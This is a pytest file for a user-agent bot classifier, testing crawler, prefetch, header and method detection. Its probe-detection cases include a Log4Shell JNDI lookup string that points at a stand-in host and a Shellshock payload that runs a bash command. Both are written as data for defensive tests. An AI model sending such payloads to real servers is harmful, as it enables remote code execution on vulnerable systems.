import pytest

from influscope.tracking import bots
from tests.tracking.user_agents import BOTS, HUMANS

BROWSER = {"accept-language": "en-US,en;q=0.9"}


@pytest.mark.parametrize("name", sorted(HUMANS))
def test_browsers_and_in_app_browsers_are_humans(name):
    ua, app, device = HUMANS[name]
    agent = bots.classify(ua, BROWSER)
    assert not agent.is_bot, (name, agent)
    assert agent.bot_reason is None
    assert agent.app == app
    assert agent.device == device
    assert agent.os in ("iOS", "Android", "Windows", "Mac OS X", "Linux")


@pytest.mark.parametrize("name", sorted(BOTS))
def test_crawlers_and_preview_fetchers_are_bots(name):
    ua, reason = BOTS[name]
    agent = bots.classify(ua, BROWSER)
    assert agent.is_bot, (name, agent)
    assert agent.bot_reason.startswith(reason)
    assert agent.bot_reason in bots.REASONS
    assert agent.device == "bot"
    assert agent.app is None


@pytest.mark.parametrize("ua,reason", [
    # what the crawlerdetect-only classifier missed, each now named by a list or a rule
    ("Mozilla/5.0 (compatible; Dormouse/1.0)", "list:matomo"),
    ("Cloudflare-Traffic-Manager/1.0", "list:crawler-user-agents"),
    ("OpenGraph.io/1.1", "list:crawler-user-agents"),
    ("Library Of Congress Web Archiving", "list:crawler-user-agents"),
    ("Catchpoint", "list:crawler-user-agents"),
    ("NextCloud-News/1.0", "list:crawler-user-agents"),
    ("WebMon/2.0.0", "list:matomo"),
    ("Arachni/v1.5.1", "rule:probe"),
    ("FastDAST", "rule:probe"),
    ("${jndi:ldap://198.51.100.7:1389/Exploit}", "rule:probe"),
    ("Mozilla/5.0 (X11; Linux x86_64) () { :; }; /bin/bash -c 'id'", "rule:probe"),
    ("Mozilla/5.0", "rule:malformed"),
    ("1234567", "rule:malformed"),
    ("Mozilla/5.0 (Windows NT 10.0)\x00", "rule:malformed"),
    ("   ", "rule:empty"),
    (None, "rule:empty"),
    # self-declared, in shapes no list knows (made-up names)
    ("Mozilla/5.0 (compatible; Quillfeather/1.2)", "rule:compatible-token"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; compatible; Quillfeather/1.2) Chrome/120.0 Safari/537.36",
     "rule:compatible-token"),
    ("Quillfeather/1.2 (+https://quill.example/about)", "rule:contact-url"),
])
def test_lists_and_rules_name_their_reason(ua, reason):
    agent = bots.classify(ua, BROWSER)
    assert (agent.is_bot, agent.bot_reason) == (True, reason)


def test_old_browsers_compatible_token_is_no_bot():
    ua = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727)"
    assert not bots.classify(ua, BROWSER).is_bot


@pytest.mark.parametrize("model", ["M_bot_tab_1150", "XBot_Senior", "Robot 2"])
def test_phone_models_named_bot_are_people(model):
    ua = (f"Mozilla/5.0 (Linux; Android 8.1.0; {model} Build/O11019) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/65.0.3325.109 Mobile Safari/537.36")
    agent = bots.classify(ua, BROWSER)
    assert not agent.is_bot, agent
    assert agent.device == "mobile"


def test_a_crawler_on_an_android_agent_is_still_caught():
    ua = ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/120.0.0.0 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
    assert bots.classify(ua, BROWSER).bot_reason == "list:crawlerdetect"


def test_masking_touches_only_the_android_model():
    ua = "Mozilla/5.0 (Linux; Android 7.1.1; M_bot_tab_1150 Build/N9F27F) AppleWebKit/537.36"
    assert bots.mask_device_model(ua) == "Mozilla/5.0 (Linux; Android 7.1.1; Model Build/N9F27F) AppleWebKit/537.36"
    ua = "Mozilla/5.0 (Linux; U; Android 13; en-us; XBot_Senior) AppleWebKit/537.36"
    assert bots.mask_device_model(ua) == "Mozilla/5.0 (Linux; U; Android 13; en-us; Model) AppleWebKit/537.36"
    desktop = HUMANS["chrome_windows"][0]
    assert bots.mask_device_model(desktop) == desktop


@pytest.mark.parametrize("header,value", [("purpose", "prefetch"), ("sec-purpose", "prefetch;prerender"),
                                          ("x-purpose", "preview"), ("x-moz", "prefetch")])
def test_prefetch_and_preview_headers_flag_even_in_app_browsers(header, value):
    ua = HUMANS["facebook_android"][0]
    agent = bots.classify(ua, {**BROWSER, header: value})
    assert agent.is_bot and agent.bot_reason == "header:prefetch"
    assert agent.app == "Facebook"  # still says which app prefetched


@pytest.mark.parametrize("method,reason", [("HEAD", "method:head"), ("OPTIONS", "method:options"), ("GET", None)])
def test_head_and_options_are_no_visits(method, reason):
    agent = bots.classify(HUMANS["safari_iphone"][0], BROWSER, method)
    assert agent.bot_reason == reason and agent.is_bot is (reason is not None)


def test_unrelated_header_values_do_not_flag():
    assert not bots.classify(HUMANS["chrome_windows"][0], {**BROWSER, "purpose": "navigate", "x-moz": ""}).is_bot


def test_no_accept_language_makes_a_browser_suspect():
    agent = bots.classify(HUMANS["chrome_windows"][0], {})
    assert (agent.is_bot, agent.bot_reason, agent.suspect) == (True, "signal:no-accept-language", True)
    assert bots.classify(HUMANS["chrome_windows"][0], {"accept-language": "  "}).suspect
    # a known bot keeps its own reason; without headers at all (an API caller) nothing is assumed
    assert bots.classify(BOTS["googlebot"][0], {}).bot_reason == "list:crawlerdetect"
    assert not bots.classify(HUMANS["chrome_windows"][0]).is_bot


def test_request_hints_round_trip_through_classify_stored():
    hints = bots.request_hints({"sec-purpose": "prefetch"}, "GET")
    assert hints == "prefetch no-accept-language"
    assert bots.request_hints({"accept-language": "zh-TW"}, "HEAD") == "head"
    assert bots.request_hints({"accept-language": "zh-TW"}, "GET") is None
    ua = HUMANS["line_ios"][0]
    assert bots.classify_stored(ua, hints) == bots.classify(ua, {"sec-purpose": "prefetch"})


def test_user_agent_is_stored_cut_to_its_limit():
    assert bots.normalize("  x  ") == "x"
    assert len(bots.normalize("a" * 5000)) == bots.MAX_USER_AGENT
    assert bots.normalize(None) == ""


def test_verdicts_are_cached_per_agent_string():
    bots.parse_user_agent.cache_clear()
    ua = HUMANS["tiktok_ios"][0]
    first = bots.classify(ua, BROWSER)
    assert bots.classify(ua, BROWSER) == first
    assert bots.classify(ua, BROWSER) == first
    info = bots.parse_user_agent.cache_info()
    assert (info.misses, info.hits) == (1, 2)
    assert info.maxsize is not None  # bounded


def test_browser_and_os_families():
    agent = bots.classify(HUMANS["instagram_ios"][0], BROWSER)
    assert (agent.os, agent.browser, agent.app) == ("iOS", "Instagram", "Instagram")
    agent = bots.classify(HUMANS["samsung_internet"][0], BROWSER)
    assert (agent.os, agent.browser, agent.app) == ("Android", "Samsung Internet", None)


@pytest.mark.parametrize("method", ["GET", "HEAD", "OPTIONS", "PROPFIND"])
def test_hints_from_what_was_found_equal_hints_from_the_headers(method):
    for prefetch in (False, True):
        for language in (None, " ", "zh-TW"):
            headers = {"accept-language": language} if language is not None else {}
            if prefetch:
                headers["sec-purpose"] = "Prefetch;prerender"
            assert bots.hints_of(method, prefetch, not (language or "").strip()) == bots.request_hints(headers, method)
